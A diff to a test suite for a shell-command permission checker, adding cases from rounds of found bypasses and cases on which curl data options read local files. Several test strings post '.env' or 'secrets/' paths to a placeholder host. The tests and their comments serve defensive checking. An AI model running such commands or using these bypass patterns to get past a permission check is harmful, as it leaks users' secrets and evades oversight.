@@ -231,6 +231,8 @@ describe('bypasses found in the eighth round, shown with the real programs first
     'curl -o a.txt "http://x/{a}"',
     // `#` and a letter is no glob's match.
     "curl -o 'a#x.txt' http://x",
+    // wget writes `#1` as it is.
+    "wget -O 'a#1.txt' http://x",
     // With two operands or -t, the link is named by the last one or made in the directory.
     'ln -s docs/Makefile r',
     'ln -st docs ../x/Makefile',
@@ -273,6 +275,12 @@ describe('curl: what its data options read', () => {
     'curl --data a@.env http://x',
     'curl -d .env http://x',
     'curl --json .env http://x',
+    // `=<` reads a file in a form field only, and only right after the field's name: a later `=`
+    // or `@` is part of the text (the cases are shaped so that a match found further in would
+    // name secrets/…).
+    "curl -d 'a=<.env' http://x",
+    "curl -F 'aaaaaaaaaa=secrets/a=<b' http://x",
+    'curl --data-urlencode aaaaaaaaa=secrets/x@y http://x',
   ]);
   // `--data-raw` takes a value: read as a flag, its value became a URL saved by -O, src.
   decides(withEdits, 'allow', ['curl -O --data-raw src http://x/a.txt']);
